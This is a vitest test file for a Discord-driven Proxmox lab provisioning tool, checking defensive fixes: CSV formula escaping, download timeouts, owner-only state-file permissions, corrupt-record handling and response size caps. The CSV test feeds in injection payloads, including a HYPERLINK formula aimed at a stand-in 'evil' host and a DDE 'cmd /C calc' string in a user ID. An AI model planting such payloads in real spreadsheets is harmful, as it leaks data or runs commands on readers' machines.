import { chmodSync, existsSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Agent } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { downloadAttachment } from '../../src/discord/attachments.js';
import { credentialsCsv, csvField } from '../../src/discord/credentials.js';
import { messages } from '../../src/discord/i18n.js';
import { UserError } from '../../src/errors.js';
import { ProxmoxApiError } from '../../src/proxmox/errors.js';
import { MAX_RESPONSE_BYTES, send } from '../../src/proxmox/http.js';
import { openStore, StoreCorruptError } from '../../src/store/index.js';

const m = messages('en');

// Issue 10 §6: the smaller holes, one test each.
describe('credentials CSV', () => {
  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    for (const bad of ['=HYPERLINK("http://evil/"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd']) {
      const cell = csvField(bad);
      // after CSV unquoting the cell starts with ', which spreadsheets show as text
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      expect(unquoted, bad).toBe(`'${bad}`);
    }
    expect(csvField('ivanov@pve')).toBe('ivanov@pve');
    expect(csvField('a,b')).toBe('"a,b"');
    const csv = credentialsCsv([{ group: 'g', userid: '=cmd|\' /C calc\'!A0@pve', password: 'Abc-def', pool: 'p', consoleUrl: 'https://x/' }]);
    expect(csv.split('\n')[1]).toBe("'=cmd|' /C calc'!A0@pve,Abc-def,https://x/,p,g");
  });
});

describe('attachment download that stalls', () => {
  let server: Server;
  let base: string;
  beforeAll(async () => {
    server = createServer((req, res) => {
      if (req.url === '/half.csv') {
        // headers and the first line, then nothing: a stalled transfer
        res.writeHead(200, { 'content-type': 'text/csv', 'content-length': '1000' });
        res.write('user\nivanov\n');
        return;
      }
      // /silent.csv: not even headers
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise((r) => server.close(r));
  });

  for (const file of ['half.csv', 'silent.csv']) {
    it(`ends in the user-facing timeout message (${file}), not an internal error`, async () => {
      const host = base.replace('http://', '');
      const err = await downloadAttachment({ url: `${base}/${file}`, name: file, size: 1000, contentType: 'text/csv' }, { allowedHosts: [host], m, timeoutMs: 500 }).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(err).toBeInstanceOf(UserError);
      expect((err as Error).message).toBe('The attachment did not finish downloading within 0.5 s. Upload it again.');
    });
  }
});

describe('state file', () => {
  const dirs: string[] = [];
  afterAll(() => {
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });
  const tmp = () => {
    const d = mkdtempSync(join(tmpdir(), 'stands-trust-'));
    dirs.push(d);
    return d;
  };
  const standInput = (userid: string) => ({
    cluster: 'c', group: 'g', user: userid.split('@')[0]!, userid, profile: 'basic', pool: `p-${userid.split('@')[0]}`, node: 'pve1',
    vms: [], segments: [], vlans: [], createdUser: true, poolCreated: true, status: 'ready' as const,
    createdAt: '2026-01-01T00:00:00Z', updatedAt: '2026-01-01T00:00:00Z',
  });

  it('is created readable by the owner only: directory 0700, file and WAL companions 0600', async () => {
    const prev = process.umask(0o022);
    try {
      const dir = join(tmp(), 'new', 'state');
      const file = join(dir, 'state.sqlite');
      const s = await openStore(file);
      await s.stands.put(standInput('a@pve'));
      expect(statSync(dir).mode & 0o777).toBe(0o700);
      for (const f of [file, `${file}-wal`, `${file}-shm`]) {
        expect(existsSync(f), f).toBe(true);
        expect((statSync(f).mode & 0o777).toString(8), f).toBe('600');
      }
      await s.close();
      // an existing file with loose permissions is tightened on open
      chmodSync(file, 0o644);
      const again = await openStore(file);
      expect((statSync(file).mode & 0o777).toString(8)).toBe('600');
      await again.close();
    } finally {
      process.umask(prev);
    }
  });

  it('one corrupt record names the file and the record and says what to do; the others still list', async () => {
    const file = join(tmp(), 'state.sqlite');
    const seen: StoreCorruptError[] = [];
    const s = await openStore(file, { onCorrupt: (e) => seen.push(e) });
    await s.stands.put(standInput('a@pve'));
    await s.stands.put(standInput('c@pve'));
    const { KeyvSqlite } = await import('@keyv/sqlite');
    const raw = new KeyvSqlite({ uri: `sqlite://${file}` });
    await raw.query(`INSERT INTO keyv (key, value) VALUES ('stands:stand:g/b%40pve', '{"value":{"group":"g"}}')`);
    await raw.query(`INSERT INTO keyv (key, value) VALUES ('stands:stand:g/d%40pve', '{not json')`);
    await raw.disconnect();
    expect((await s.stands.list()).map((r) => r.userid)).toEqual(['a@pve', 'c@pve']);
    expect(seen.map((e) => e.key)).toEqual(['stand:g/b%40pve', 'stand:g/d%40pve']);
    const err = (await s.stands.get('g', 'b@pve').catch((e: unknown) => e)) as StoreCorruptError;
    expect(err).toBeInstanceOf(UserError);
    expect(err.message).toMatch(/^state file entry stand:g\/b%40pve is not valid: cluster: .+ \(in .+state\.sqlite\)\. Other records are not affected\. Delete this record, or restore the state file from a backup; `stands recover` rebuilds/);
    expect(err.message).toContain(file);
    expect(await s.stands.get('g', 'a@pve')).toBeDefined();
    await s.close();
  });

  it('a file that is not a state file is refused with its name and what to do', async () => {
    const file = join(tmp(), 'state.sqlite');
    writeFileSync(file, 'this is not a database, it is a text file that someone put here by mistake\n'.repeat(100));
    const err = (await openStore(file).catch((e: unknown) => e)) as Error;
    expect(err).toBeInstanceOf(UserError);
    expect(err.message).toMatch(new RegExp(`^cannot read the state file ${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: .+ restore it from a backup, or move it away`));
  });
});

describe('bodies read from Proxmox', () => {
  let server: Server;
  let origin: string;
  const agent = new Agent();
  beforeAll(async () => {
    server = createServer((req, res) => {
      const big = JSON.stringify({ data: 'x'.repeat(3 * 1024 * 1024) });
      if (req.url?.includes('declared')) {
        res.writeHead(200, { 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(big)) });
        res.end(big);
      } else {
        // chunked: no length announced, the bytes just keep coming
        res.writeHead(200, { 'content-type': 'application/json' });
        for (let i = 0; i < 48; i++) res.write('x'.repeat(64 * 1024));
        res.end();
      }
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await agent.close();
    server.closeAllConnections();
    await new Promise((r) => server.close(r));
  });

  for (const path of ['/declared', '/chunked']) {
    it(`are size-capped with a clear error (${path})`, async () => {
      const err = await send({ agent, origin, method: 'GET', path, headers: {}, timeoutMs: 60_000, cluster: 'lab', maxBodyBytes: 1024 * 1024 }).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(err).toBeInstanceOf(ProxmoxApiError);
      expect((err as ProxmoxApiError).message).toContain('response too large: more than 1 MiB (the cap on any body read from Proxmox); refused');
      expect((err as ProxmoxApiError).code).toBe('ERR_BODY_TOO_LARGE');
    });
  }

  it('reads a body under the cap as before', async () => {
    const r = await send({ agent, origin, method: 'GET', path: '/declared', headers: {}, timeoutMs: 60_000, cluster: 'lab' });
    expect(String(r.body).length).toBe(3 * 1024 * 1024);
    expect(MAX_RESPONSE_BYTES).toBe(32 * 1024 * 1024);
  });
});
